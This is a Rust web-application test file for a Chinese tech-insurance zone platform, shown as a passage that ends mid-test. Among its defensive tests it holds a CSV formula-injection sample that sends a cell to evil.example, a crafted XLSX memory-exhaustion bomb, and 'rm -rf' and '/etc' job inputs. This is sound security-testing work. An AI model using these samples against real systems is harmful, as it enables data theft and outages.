use crate::client::*;
use axum::body::Body;
use axum::http::{header, Request, StatusCode};

async fn events(app: &App) -> u64 {
    app.svc.log_size().await.unwrap()
}

#[tokio::test]
async fn public_pages_are_chinese_with_an_english_switch() {
    let app = app().await;
    let mut c = Client::new(&app);
    let home = c.get("/").await;
    assert_eq!(home.status, StatusCode::OK);
    let t = home.text();
    assert!(t.contains("lang=\"zh-CN\"") && t.contains("东湖科技保险创新示范区信息平台"));
    assert!(t.contains("<svg"), "the industry chart");
    let en = c.get("/?lang=en").await.text();
    assert!(en.contains("East Lake Tech-Insurance Zone Platform"));
    // The choice sticks.
    assert!(c.get("/orgs").await.text().contains("Directory of parties"));
    // 激光: "laser".
    let dir = c.get("/orgs?lang=zh&q=%E6%BF%80%E5%85%89").await.text();
    assert!(dir.contains("光谷激光科技有限公司") && !dir.contains("汉江银行"));
}

#[tokio::test]
async fn login_wrong_password_and_logout() {
    let app = app().await;
    let mut c = Client::new(&app);
    let before = events(&app).await;
    let r = c.login("banker", "wrong password here").await;
    assert_eq!(r.status, StatusCode::UNAUTHORIZED);
    assert!(r.text().contains("用户名或密码错误"));
    assert!(!c.cookies.contains_key("kebao_session"));
    assert_eq!(events(&app).await, before);
    let r = c.login("banker", PW).await;
    assert_eq!((r.status, r.location().as_str()), (StatusCode::SEE_OTHER, "/dashboard"));
    let set = r
        .headers
        .get_all(header::SET_COOKIE)
        .iter()
        .map(|v| v.to_str().unwrap().to_owned())
        .collect::<Vec<_>>()
        .join("\n");
    assert!(
        set.contains("kebao_session=")
            && set.contains("HttpOnly")
            && set.contains("Secure")
            && set.contains("SameSite=Lax"),
        "{set}"
    );
    assert!(c.get("/dashboard").await.text().contains("汉江银行光谷支行"));
    let csrf = c.csrf().await;
    let r = c.post_form("/logout", &[("csrf", &csrf)]).await;
    assert_eq!(r.status, StatusCode::SEE_OTHER);
    assert_eq!(c.get("/dashboard").await.location(), "/login?next=/dashboard");
}

#[tokio::test]
async fn expired_session_sends_you_to_sign_in() {
    let app = app().await;
    let mut c = Client::new(&app);
    c.login("reviewer", PW).await;
    assert_eq!(c.get("/dashboard").await.status, StatusCode::OK);
    app.clock.advance_us(9 * 3600 * 1_000_000);
    let r = c.get("/dashboard").await;
    assert_eq!((r.status, r.location().as_str()), (StatusCode::SEE_OTHER, "/login?expired=1"));
    assert!(c.get("/login?expired=1").await.text().contains("登录已过期"));
}

#[tokio::test]
async fn forged_or_missing_csrf_changes_nothing() {
    let app = app().await;
    let mut c = Client::new(&app);
    c.login("reviewer", PW).await;
    let before = events(&app).await;
    let form = [("name", "伪造请求公司"), ("uscc", &uscc(60)), ("kind", "investor")];
    let r = c.post_form("/orgs", &form).await;
    assert_eq!(r.status, StatusCode::FORBIDDEN);
    let mut forged = form.to_vec();
    forged.push(("csrf", "0000"));
    assert_eq!(c.post_form("/orgs", &forged).await.status, StatusCode::FORBIDDEN);
    // The login form too: no pre-sign-in token, no session.
    let mut fresh = Client::new(&app);
    let r = fresh.post_form("/login", &[("username", "reviewer"), ("password", PW)]).await;
    assert_eq!(r.status, StatusCode::FORBIDDEN);
    assert_eq!(events(&app).await, before);
    // With the right token it goes through.
    let token = c.csrf().await;
    let mut ok = form.to_vec();
    ok.push(("csrf", &token));
    assert_eq!(c.post_form("/orgs", &ok).await.status, StatusCode::SEE_OTHER);
}

#[tokio::test]
async fn forms_show_inline_errors() {
    let app = app().await;
    let mut c = Client::new(&app);
    c.login("reviewer", PW).await;
    let token = c.csrf().await;
    let r = c
        .post_form(
            "/orgs",
            &[
                ("csrf", &token),
                ("name", "新公司"),
                ("uscc", "91420100MA4K0000"),
                ("kind", "enterprise"),
                ("industry_code", "Z1"),
                ("lifecycle_stage", "rnd"),
            ],
        )
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    let t = r.text();
    assert!(t.contains("id=\"err-uscc\"") && t.contains("统一社会信用代码应为18位"), "{t}");
    assert!(t.contains("id=\"err-industry_code\""));
    assert!(t.contains("value=\"新公司\""), "the input is kept");
    // Branches name their parent by USCC.
    let r = c
        .post_form(
            "/orgs",
            &[
                ("csrf", &token),
                ("name", "汉江银行光谷分理处"),
                ("uscc", &uscc(61)),
                ("kind", "bank"),
                ("parent_uscc", &uscc(999)),
            ],
        )
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(r.text().contains("id=\"err-parent_uscc\""), "{}", r.text());
    let r = c
        .post_form(
            "/orgs",
            &[
                ("csrf", &token),
                ("name", "汉江银行光谷分理处"),
                ("uscc", &uscc(61)),
                ("kind", "bank"),
                ("parent_uscc", &uscc(2)),
            ],
        )
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.text());
    assert!(c.get(&r.location()).await.text().contains("汉江银行光谷支行"), "the parent is shown");
    // Facts form on the organisation page (the enterprise itself).
    let mut e = Client::new(&app);
    e.login("ent.admin", PW).await;
    // Zone-only pages are refused to an enterprise, not shown and then refused on submit.
    for page in ["/orgs/new", "/orgs/import", "/admin/password"] {
        assert_eq!(e.get(page).await.status, StatusCode::FORBIDDEN, "{page}");
    }
    let token = e.csrf().await;
    let r = e
        .post_form(
            &format!("/orgs/{}/facts", app.enterprise),
            &[("csrf", &token), ("year", "2024"), ("revenue_yuan", "-5"), ("staff", "3"), ("rnd_staff", "9")],
        )
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    let t = r.text();
    assert!(t.contains("不能为负数"), "{t}");
    let r = e
        .post_form(
            &format!("/orgs/{}/facts", app.enterprise),
            &[
                ("csrf", &token),
                ("year", "2024"),
                ("revenue_yuan", "1,200,000.50"),
                ("staff", "30"),
                ("rnd_staff", "9"),
            ],
        )
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER);
    assert!(e.get(&format!("/orgs/{}", app.enterprise)).await.text().contains("1,200,000.50"));
}

async fn upload(c: &mut Client<'_>, csrf: &str, filename: &str, bytes: Vec<u8>) -> crate::client::Resp {
    upload_to(c, "/orgs/import", csrf, filename, bytes).await
}

async fn upload_to(
    c: &mut Client<'_>,
    path: &str,
    csrf: &str,
    filename: &str,
    bytes: Vec<u8>,
) -> crate::client::Resp {
    let boundary = "----kebaotestboundary";
    let mut body = Vec::new();
    body.extend(
        format!("--{boundary}\r\nContent-Disposition: form-data; name=\"csrf\"\r\n\r\n{csrf}\r\n").as_bytes(),
    );
    body.extend(format!("--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{filename}\"\r\nContent-Type: application/octet-stream\r\n\r\n").as_bytes());
    body.extend(bytes);
    body.extend(format!("\r\n--{boundary}--\r\n").as_bytes());
    let req = Request::post(path)
        .header(header::CONTENT_TYPE, format!("multipart/form-data; boundary={boundary}"))
        .body(Body::from(body))
        .unwrap();
    c.send(req).await
}

#[tokio::test]
async fn bad_uploads_are_refused_and_change_nothing() {
    let app = app().await;
    let mut c = Client::new(&app);
    c.login("reviewer", PW).await;
    let token = c.csrf().await;
    let before = events(&app).await;
    // Not UTF-8.
    let r =
        upload(&mut c, &token, "orgs.csv", b"name,uscc,kind\n\xc4\xe3\xba\xc3,x,enterprise\n".to_vec()).await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(r.text().contains("UTF-8"));
    // A missing column.
    let r = upload(&mut c, &token, "orgs.csv", "name,kind\n甲,enterprise\n".as_bytes().to_vec()).await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(r.text().contains("uscc"));
    // Too large.
    let r =
        upload(&mut c, &token, "orgs.csv", vec![b'a'; kebao_service::tabular::MAX_UPLOAD_BYTES + 10]).await;
    assert_eq!(r.status, StatusCode::PAYLOAD_TOO_LARGE);
    // A bad row: nothing imported, row-by-row report.
    let csv = format!("name,uscc,kind,industry_code,lifecycle_stage\n甲,{},enterprise,C3976,rnd\n乙,{}X,enterprise,C3976,rnd\n", uscc(70), uscc(71));
    let r = upload(&mut c, &token, "orgs.csv", csv.clone().into_bytes()).await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(r.text().contains("id=\"import-report\"") && r.text().contains("<td class=\"num\">3</td>"));
    // Without a CSRF token.
    let r = upload(&mut c, "", "orgs.csv", csv.into_bytes()).await;
    assert_eq!(r.status, StatusCode::FORBIDDEN);
    assert_eq!(events(&app).await, before);
    // A good file imports.
    let good =
        format!("名称,统一社会信用代码,类型,行业代码,生命周期阶段\n甲,{},enterprise,C3976,研发\n", uscc(72));
    let r = upload(&mut c, &token, "orgs.csv", good.into_bytes()).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text());
    assert_eq!(events(&app).await, before + 1);
}

/// A 5 KB workbook: a header row and one number at `XFD1048576`, the last cell Excel has.
/// Read as calamine's dense grid it asked for 512 GiB and aborted the server.
fn far_cell_bomb() -> Vec<u8> {
    let mut book = rust_xlsxwriter::Workbook::new();
    let sheet = book.add_worksheet();
    sheet.write_string(0, 0, "name").unwrap();
    sheet.write_string(0, 1, "uscc").unwrap();
    sheet.write_number(1_048_575, 16_383, 1).unwrap();
    book.save_to_buffer().unwrap()
}

#[tokio::test]
async fn a_spreadsheet_bomb_is_refused_before_it_is_read_and_the_server_keeps_answering() {
    let app = app().await;
    let bomb = far_cell_bomb();
    assert!(bomb.len() < 8 * 1024, "{} bytes", bomb.len());
    // A user who has just registered an enterprise (pending) may not import: 403 before
    // the file is read (read, it would be refused with 422 instead).
    let mut p = Client::new(&app);
    let token = hidden(&p.get("/register").await.text(), "csrf");
    let form = [
        ("csrf", token.as_str()),
        ("name", "待核验科技有限公司"),
        ("uscc", &uscc(90)),
        ("industry_code", "C2761"),
        ("lifecycle_stage", "rnd"),
        ("admin.username", "pending.admin"),
        ("admin.display_name", "钱总"),
        ("admin.password", "long enough password"),
    ];
    assert_eq!(p.post_form("/register", &form).await.status, StatusCode::OK);
    p.login("pending.admin", "long enough password").await;
    let token = p.csrf().await;
    let before = events(&app).await;
    let r = upload(&mut p, &token, "orgs.xlsx", bomb.clone()).await;
    assert_eq!(r.status, StatusCode::FORBIDDEN, "{}", r.text());
    assert_eq!(events(&app).await, before);
    // A reviewer, who may import, gets a clean refusal, quickly.
    let mut z = Client::new(&app);
    z.login("reviewer", PW).await;
    let token = z.csrf().await;
    let before = events(&app).await;
    let start = std::time::Instant::now();
    let r = upload(&mut z, &token, "orgs.xlsx", bomb).await;
    assert!(start.elapsed() < std::time::Duration::from_secs(10), "took {:?}", start.elapsed());
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", r.text());
    assert!(r.text().contains("文件超过 200000 行"), "{}", r.text());
    // The server keeps answering, and nothing changed.
    assert_eq!(z.get("/healthz").await.status, StatusCode::OK);
    assert_eq!(z.get("/orgs/import").await.status, StatusCode::OK);
    assert_eq!(events(&app).await, before);
}

#[tokio::test]
async fn self_registration_through_the_forms() {
    let app = app().await;
    let mut c = Client::new(&app);
    let page = c.get("/register").await;
    let token = hidden(&page.text(), "csrf");
    let u = uscc(80);
    let form = [
        ("csrf", token.as_str()),
        ("name", "自助注册科技有限公司"),
        ("uscc", &u),
        ("industry_code", "C2761"),
        ("lifecycle_stage", "rnd"),
        ("admin.username", "self.admin"),
        ("admin.display_name", "赵总"),
        ("admin.password", "short"),
    ];
    let r = c.post_form("/register", &form).await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(r.text().contains("id=\"err-admin.password\""));
    let mut good = form.to_vec();
    good.pop();
    good.push(("admin.password", "long enough password"));
    let r = c.post_form("/register", &good).await;
    assert_eq!(r.status, StatusCode::OK);
    assert!(r.text().contains("待管委会核验"));
    // The reviewer sees the to-do and verifies.
    let mut z = Client::new(&app);
    z.login("reviewer", PW).await;
    let dash = z.get("/dashboard").await.text();
    assert!(dash.contains("核验企业注册：自助注册科技有限公司"), "{dash}");
    let todos = dash.split("id=\"todos\"").nth(1).unwrap();
    let org_id = todos.split("/orgs/").nth(1).unwrap().split('"').next().unwrap().to_owned();
    let token = z.csrf().await;
    let r =
        z.post_form(&format!("/orgs/{org_id}/verify"), &[("csrf", &token), ("decision", "approve")]).await;
    assert_eq!(r.status, StatusCode::SEE_OTHER);
    assert!(z.get(&format!("/orgs/{org_id}")).await.text().contains("已核验"));
}

#[tokio::test]
async fn audit_page_for_auditors_only() {
    let app = app().await;
    let mut r = Client::new(&app);
    r.login("regulator", PW).await;
    let before = events(&app).await;
    let page = r.get("/audit").await;
    assert_eq!(page.status, StatusCode::OK);
    let t = page.text();
    assert!(t.contains(&format!("id=\"head-count\">{before}<")), "{t}");
    // Actions read as words, never as the log's codes.
    assert!(t.contains("创建机构") && !t.contains("org.created"), "{t}");
    assert!(t.contains("<td>登录</td>"), "the regulator's sign-in is listed");
    // The full verification is a background job, started from the page, never run inside it.
    assert!(t.contains("id=\"verify-chain\"") && !t.contains("id=\"verification\""), "{t}");
    let token = r.csrf().await;
    let started = r.post_form("/jobs", &[("csrf", &token), ("kind", "audit_verify")]).await;
    assert_eq!(started.status, StatusCode::SEE_OTHER);
    let job_page = started.location();
    assert!(job_page.starts_with("/jobs/"), "{job_page}");
    let queued = r.get(&job_page).await.text();
    assert!(queued.contains("排队中") && queued.contains("http-equiv=\"refresh\""), "{queued}");
    let ended = kebao_service::jobs::JobRunner::new(app.svc.clone()).run_once().await.unwrap().unwrap();
    assert_eq!(ended.state, kebao_domain::job::JobState::Succeeded);
    let done = r.get(&job_page).await.text();
    assert!(done.contains("已完成") && done.contains("完好") && !done.contains("http-equiv"), "{done}");
    assert!(done.contains("regulator"), "the page names who asked: {done}");
    let t = r.get("/audit").await.text();
    assert!(t.contains("id=\"verification\"") && t.contains("完好"), "{t}");
    // What the retention rules erased, and the rules with their sources; an unconfirmed rule
    // says so.
    assert!(t.contains("依保留规则删除的数据") && t.contains("尚无到期删除的数据"), "{t}");
    assert!(t.contains("征信业管理条例") && t.contains("未经确认，须由示范区确认"), "{t}");
    let en = r.get("/audit?lang=en").await.text();
    assert!(en.contains("Credit Reporting Industry") && !en.contains("征信业管理条例"), "{en}");
    let api = r.token("regulator").await;
    let ret = r.get_auth("/api/v1/audit/erasures", &api).await.json();
    let neg =
        ret["rules"].as_array().unwrap().iter().find(|x| x["id"] == "negative_records").unwrap().clone();
    assert_eq!((neg["years"].as_i64(), neg["confidence"].as_str()), (Some(5), Some("C")));
    assert_eq!(ret["erasures"], serde_json::json!([]));
    r.get("/audit?lang=zh").await;
    let orgs = r.get("/audit?kind=org").await.text();
    assert!(orgs.contains("创建机构") && !orgs.contains("<td>登录</td>"), "{orgs}");
    let bad = r.get("/audit?kind=nope").await;
    assert!(bad.status == StatusCode::OK && bad.text().contains("未知的事件类别"));
    let dash = r.get("/dashboard").await.text();
    assert!(dash.contains("href=\"/audit\"") && dash.contains("href=\"/jobs\""), "{dash}");
    let mut b = Client::new(&app);
    b.login("banker", PW).await;
    assert_eq!(b.get("/audit").await.status, StatusCode::FORBIDDEN);
    assert_eq!(b.get("/jobs").await.status, StatusCode::FORBIDDEN);
    assert!(!b.get("/dashboard").await.text().contains("href=\"/jobs\""));
}

#[tokio::test]
async fn jobs_page_and_api() {
    let app = app().await;
    let mut r = Client::new(&app);
    r.login("regulator", PW).await;
    let list = r.get("/jobs").await.text();
    assert!(list.contains("还没有后台任务") && list.contains("id=\"start-audit_verify\""), "{list}");
    // The regulator may not start backups; a bad kind is refused with a message.
    assert!(!list.contains("id=\"start-backup\""), "{list}");
    let token = r.csrf().await;
    let bad = r.post_form("/jobs", &[("csrf", &token), ("kind", "rm -rf")]).await;
    assert_eq!(bad.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(bad.text().contains("请选择要运行的任务"));
    let no_csrf = r.post_form("/jobs", &[("kind", "audit_verify")]).await;
    assert_eq!(no_csrf.status, StatusCode::FORBIDDEN);
    // Through the API: start, a second is refused while the first waits, cancel.
    let api = r.token("regulator").await;
    let started =
        r.json("POST", "/api/v1/jobs", Some(&api), serde_json::json!({"kind": "audit_verify"})).await;
    assert_eq!(started.status, StatusCode::CREATED, "{}", started.text());
    let j = started.json();
    assert_eq!((j["state"].as_str(), j["kind_zh"].as_str()), (Some("queued"), Some("审计链完整校验")));
    assert_eq!(j["can_cancel"], true);
    let id = j["id"].as_str().unwrap().to_owned();
    let again = r.json("POST", "/api/v1/jobs", Some(&api), serde_json::json!({"kind": "audit_verify"})).await;
    assert_eq!(again.status, StatusCode::CONFLICT, "{}", again.text());
    let unknown = r.json("POST", "/api/v1/jobs", Some(&api), serde_json::json!({"kind": "nope"})).await;
    assert_eq!(unknown.status, StatusCode::UNPROCESSABLE_ENTITY);
    let extra = r
        .json("POST", "/api/v1/jobs", Some(&api), serde_json::json!({"kind": "backup", "path": "/etc"}))
        .await;
    assert!(extra.status.is_client_error(), "no field names a path: {}", extra.text());
    let listed = r.get_auth("/api/v1/jobs?state=queued", &api).await.json();
    assert_eq!(listed["jobs"].as_array().unwrap().len(), 1);
    assert_eq!(listed["startable"], serde_json::json!(["audit_verify"]));
    assert_eq!(r.get_auth("/api/v1/jobs?state=lost", &api).await.status, StatusCode::UNPROCESSABLE_ENTITY);
    let mut b = Client::new(&app);
    let banker = b.token("banker").await;
    assert_eq!(b.get_auth("/api/v1/jobs", &banker).await.status, StatusCode::FORBIDDEN);
    let c = r.json("POST", &format!("/api/v1/jobs/{id}/cancel"), Some(&api), serde_json::json!({})).await;
    assert_eq!(c.status, StatusCode::OK, "{}", c.text());
    assert_eq!(c.json()["state"], "cancelled");
    let c2 = r.json("POST", &format!("/api/v1/jobs/{id}/cancel"), Some(&api), serde_json::json!({})).await;
    assert_eq!(c2.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", c2.text());
    // The page lists it with its people and state in words.
    let list = r.get("/jobs").await.text();
    assert!(list.contains("已取消") && list.contains("regulator") && !list.contains("cancelled<"), "{list}");
    let filtered = r.get("/jobs?state=succeeded").await.text();
    assert!(filtered.contains("没有符合条件的任务"), "{filtered}");
    let page = r.get(&format!("/jobs/{id}")).await.text();
    assert!(page.contains("已取消") && !page.contains("id=\"cancel-job\""), "{page}");
}

#[tokio::test]
async fn csv_exports_do_not_carry_formulas() {
    let app = app().await;
    let op = kebao_service::authz::Actor::System { name: "test".into() };
    let evil = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点此查看\")";
    app.svc.create_org(&op, &org(evil, 95, "enterprise")).await.unwrap();
    app.svc.create_org(&op, &org("@SUM(1+1)科技有限公司", 96, "enterprise")).await.unwrap();
    let mut c = Client::new(&app);
    c.login("reviewer", PW).await;
    let r = c.get("/orgs/export.csv").await;
    assert_eq!(r.status, StatusCode::OK);
    let t = kebao_service::tabular::read(&r.body, kebao_service::tabular::Format::Csv).unwrap();
    let names: Vec<&str> = (0..t.rows.len()).map(|i| t.cell(i, t.column(&["name", "名称"]))).collect();
    assert!(names.contains(&format!("'{evil}").as_str()), "{names:?}");
    assert!(names.contains(&"'@SUM(1+1)科技有限公司"), "{names:?}");
    assert!(!names.iter().any(|n| n.starts_with(['=', '+', '-', '@'])), "{names:?}");
    // The workbook keeps the name as it is: a string cell, never a formula.
    let x = c.get("/orgs/export.xlsx").await;
    let t = kebao_service::tabular::read(&x.body, kebao_service::tabular::Format::Xlsx).unwrap();
    let names: Vec<&str> = (0..t.rows.len()).map(|i| t.cell(i, t.column(&["name", "名称"]))).collect();
    assert!(names.contains(&evil), "{names:?}");
    assert!(!String::from_utf8_lossy(&x.body).contains("<f>"));
}

#[tokio::test]
async fn an_unknown_address_answers_with_a_page_that_says_so() {
    let app = app().await;
    let mut anon = Client::new(&app);
    let r = anon.get("/no-such-page").await;
    assert_eq!(r.status, StatusCode::NOT_FOUND);
    let t = r.text();
    assert!(t.contains("<!doctype html>") && t.contains("未找到该页面或记录"), "{t}");
    let en = anon.get("/no-such-page?lang=en").await.text();
    assert!(en.contains("Not found."), "{en}");
    let api = anon.get("/api/v1/no-such-thing").await;
    assert_eq!(api.status, StatusCode::NOT_FOUND);
    let body: serde_json::Value = serde_json::from_str(&api.text()).expect("a JSON error");
    assert!(body["error"].is_object(), "{body}");
    // Signed in, the page keeps the menu.
    let mut r = Client::new(&app);
    r.login("regulator", PW).await;
    assert!(r.get("/no-such-page").await.text().contains("href=\"/dashboard\""));
}

#[tokio::test]
async fn the_audit_log_and_every_user_through_the_api() {
    let app = app().await;
    let op = kebao_service::authz::Actor::System { name: "test".into() };
    let gov = app.svc.find_user("regulator").await.unwrap().org_id;
    let input = kebao_service::users::NewUserInput {
        username: "padmin".into(),
        display_name: "平台管理员".into(),
        password: PW.into(),
    };
    app.svc.add_user(&op, &gov, &input, &[kebao_domain::user::Role::PlatformAdmin]).await.unwrap();
    let mut c = Client::new(&app);
    let reg = c.token("regulator").await;
    let page = c.get_auth("/api/v1/audit/events?kind=org", &reg).await;
    assert_eq!(page.status, StatusCode::OK, "{}", page.text());
    let v = page.json();
    let events = v["events"].as_array().unwrap();
    assert!(
        !events.is_empty() && events.iter().all(|e| e["action"].as_str().unwrap().starts_with("org.")),
        "{v}"
    );
    assert!(
        events.iter().any(|e| e["action_zh"] == "创建机构" && e["subject_name"] == "汉江银行光谷支行"),
        "{v}"
    );
    assert_eq!(
        c.get_auth("/api/v1/audit/events?kind=nope", &reg).await.status,
        StatusCode::UNPROCESSABLE_ENTITY
    );
    let banker = c.token("banker").await;
    assert_eq!(c.get_auth("/api/v1/audit/events", &banker).await.status, StatusCode::FORBIDDEN);
    // Every user, for the platform's administrator only.
    let admin = c.token("padmin").await;
    let users = c.get_auth("/api/v1/users?q=%E6%B1%89%E6%B1%9F", &admin).await;
    assert_eq!(users.status, StatusCode::OK, "{}", users.text());
    let v = users.json();
    assert_eq!((v["total"].as_u64(), v["users"][0]["username"].as_str()), (Some(1), Some("banker")), "{v}");
    assert_eq!(v["users"][0]["org_name"], "汉江银行光谷支行");
    assert_eq!(c.get_auth("/api/v1/users", &reg).await.status, StatusCode::FORBIDDEN);
    assert_eq!(
        c.get_auth("/api/v1/users?status=gone", &admin).await.status,
        StatusCode::UNPROCESSABLE_ENTITY
    );
    // The page of every user, for the administrator.
    let mut a = Client::new(&app);
    a.login("padmin", PW).await;
    let t = a.get("/admin/users?q=banker").await.text();
    assert!(t.contains("汉江银行光谷支行") && t.contains("银行客户经理"), "{t}");
}

#[tokio::test]
async fn personal_data_requests_through_the_pages_and_the_api() {
    let app = app().await;
    let op = kebao_service::authz::Actor::System { name: "test".into() };
    let gov = app.svc.list_orgs(&op, &Default::default(), None, 50).await.unwrap();
    let gov = gov.items.iter().find(|o| o.name == "东湖高新区管委会").unwrap().id.clone();
    let input = kebao_service::users::NewUserInput {
        username: "padmin".into(),
        display_name: "平台管理员".into(),
        password: PW.into(),
    };
    app.svc.add_user(&op, &gov, &input, &[kebao_domain::user::Role::PlatformAdmin]).await.unwrap();
    let mut e = Client::new(&app);
    e.login("ent.admin", PW).await;
    let page = e.get("/account/data").await.text();
    assert!(page.contains("id=\"my-data\"") && page.contains("ent.admin") && page.contains("15"), "{page}");
    let token = e.csrf().await;
    let bad = e.post_form("/account/data", &[("csrf", &token), ("kind", "delete"), ("details", "")]).await;
    assert_eq!(bad.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(bad.text().contains("请写明要更正或删除的信息"));
    let ok = e
        .post_form("/account/data", &[("csrf", &token), ("kind", "delete"), ("details", "删除我的手机号")])
        .await;
    assert_eq!(ok.status, StatusCode::SEE_OTHER);
    let page = e.get(&ok.location()).await.text();
    assert!(
        page.contains("请求已提交") && page.contains("删除我的手机号") && page.contains("待答复"),
        "{page}"
    );
    // The administrator answers from the list; the person sees the answer.
    let mut a = Client::new(&app);
    a.login("padmin", PW).await;
    let dash = a.get("/dashboard").await.text();
    assert!(dash.contains("答复个人信息请求") && dash.contains("href=\"/admin/data-requests/"), "{dash}");
    let list = a.get("/admin/data-requests").await.text();
    let id = list.split("/admin/data-requests/").nth(1).unwrap().split('"').next().unwrap().to_owned();
    let token = a.csrf().await;
    let r = a
        .post_form(
            &format!("/admin/data-requests/{id}"),
            &[("csrf", &token), ("outcome", "refuse"), ("answer", "")],
        )
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    let r = a
        .post_form(
            &format!("/admin/data-requests/{id}"),
            &[("csrf", &token), ("outcome", "refuse"), ("answer", "平台未保存手机号，无需删除")],
        )
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER);
    let page = e.get("/account/data").await.text();
    assert!(page.contains("平台未保存手机号") && page.contains("不予办理"), "{page}");
    // The same through the API.
    let t = e.token("ent.admin").await;
    let filed =
        e.json("POST", "/api/v1/me/data-requests", Some(&t), serde_json::json!({"kind": "access"})).await;
    assert_eq!(filed.status, StatusCode::CREATED, "{}", filed.text());
    let bad =
        e.json("POST", "/api/v1/me/data-requests", Some(&t), serde_json::json!({"kind": "erase"})).await;
    assert_eq!(bad.status, StatusCode::UNPROCESSABLE_ENTITY);
    let me = e.get_auth("/api/v1/me/data", &t).await.json();
    assert_eq!(me["requests"].as_array().unwrap().len(), 2);
    assert_eq!(e.get_auth("/api/v1/data-requests", &t).await.status, StatusCode::FORBIDDEN);
    let at = a.token("padmin").await;
    let all = a.get_auth("/api/v1/data-requests", &at).await.json();
    let open = all.as_array().unwrap().iter().find(|r| r["state"] == "open").unwrap()["id"]
        .as_str()
        .unwrap()
        .to_owned();
    let ans = a
        .json(
            "POST",
            &format!("/api/v1/data-requests/{open}/answer"),
            Some(&at),
            serde_json::json!({"grant": true, "answer": "已导出并发送"}),
        )
        .await;
    assert_eq!(ans.status, StatusCode::OK, "{}", ans.text());
    assert_eq!(ans.json()["state"], "granted");

    // A person who is not a user asks at the counter to delete what names them: a filing
    // returned with a reason that names them.
    let ins = app.svc.create_org(&op, &org("楚天财产保险股份有限公司", 31, "insurer")).await.unwrap();
    let fi = kebao_service::users::NewUserInput {
        username: "filer".into(),
        display_name: "filer".into(),
        password: PW.into(),
    };
    let filer = app.svc.add_user(&op, &ins.id, &fi, &[kebao_domain::user::Role::ProductFiler]).await.unwrap();
    let filer = app.svc.actor_for(filer).await.unwrap();
    let reviewer = app.svc.actor_for(app.svc.find_user("reviewer").await.unwrap()).await.unwrap();
    let product = kebao_domain::product::ProductInput {
        type_id: "rd_liability".into(),
        name: "研发责任险".into(),
        coverages: vec![kebao_domain::product::CoverageInput {
            name: "责任".into(),
            limit_yuan: "2000000".into(),
            ..Default::default()
        }],
        premium_basis: "limit".into(),
        contact_name: "王".into(),
        contact_phone: "027-87654321".into(),
        ..Default::default()
    };
    let pid = app.svc.file_product(&filer, &ins.id, &product).await.unwrap();
    app.svc.submit_product(&filer, &pid).await.unwrap();
    let why = "联系人李四的电话有误，请更正";
    let review = kebao_service::products::Review::RequestChanges { reason: why.into() };
    app.svc.review_product(&reviewer, &pid, &review).await.unwrap();
    let list = a.get("/admin/data-requests").await.text();
    assert!(list.contains("id=\"record-request\""), "{list}");
    let token = a.csrf().await;
    let form = |uscc: String| {
        vec![
            ("csrf".to_owned(), token.clone()),
            ("person_name".to_owned(), "李四".to_owned()),
            ("identity_check".to_owned(), "查验居民身份证原件".to_owned()),
            ("org_uscc".to_owned(), uscc),
            ("kind".to_owned(), "delete".to_owned()),
            ("details".to_owned(), "删除提及我的文字；答复寄至光谷大道 1 号".to_owned()),
        ]
    };
    fn pairs(f: &[(String, String)]) -> Vec<(&str, &str)> {
        f.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect()
    }
    let bad = form(uscc(99));
    let r = a.post_form("/admin/data-requests", &pairs(&bad)).await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(
        r.text().contains("没有这个统一社会信用代码") && r.text().contains("李四"),
        "kept what was typed"
    );
    let good = form(uscc(31));
    let r = a.post_form("/admin/data-requests", &pairs(&good)).await;
    assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.text());
    let page = a.get(&r.location()).await.text();
    assert!(
        page.contains("已代为登记请求")
            && page.contains("非用户，代为登记")
            && page.contains("楚天财产保险股份有限公司"),
        "{page}"
    );
    assert!(page.contains(why) && page.contains("name=\"erase\""), "{page}");
    let rid = r.location().trim_start_matches("/admin/data-requests/").split('?').next().unwrap().to_owned();
    let seq = page.split("name=\"erase\" value=\"").nth(1).unwrap().split('"').next().unwrap().to_owned();
    let r = a
        .post_form(
            &format!("/admin/data-requests/{rid}"),
            &[("csrf", &token), ("erase", &seq), ("outcome", "grant"), ("answer", "已删除提及您的文字一处")],
        )
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.text());
    let page = a.get(&r.location()).await.text();
    assert!(page.contains("此人不是平台用户") && !page.contains(why) && page.contains("已办理"), "{page}");
    let d = a.get_auth(&format!("/api/v1/data-requests/{rid}"), &at).await.json();
    assert_eq!(
        (d["request"]["for_non_user"].as_bool(), d["texts"].as_array().map(Vec::len)),
        (Some(true), Some(0))
    );
    let audit = a.get_auth("/api/v1/audit/erasures", &at).await;
    assert!(audit.text().contains(&rid) && audit.text().contains("deletion_request"), "{}", audit.text());

    // Impact assessments: a bank's key that reads consents waits for one.
    let bt = e.token("banker").await;
    let key = serde_json::json!({"name": "loan system", "scopes": ["consents:read"], "rate_per_minute": 60});
    let r = e.json("POST", "/api/v1/api-keys", Some(&bt), key.clone()).await;
    assert_eq!(r.status, StatusCode::CONFLICT, "{}", r.text());
    assert_eq!(r.json()["error"]["details"][0]["code"], "no_impact_assessment", "{}", r.text());
    let page = a.get("/admin/impact-assessments").await.text();
    assert!(page.contains("id=\"record-assessment\"") && page.contains("尚无评估记录"), "{page}");
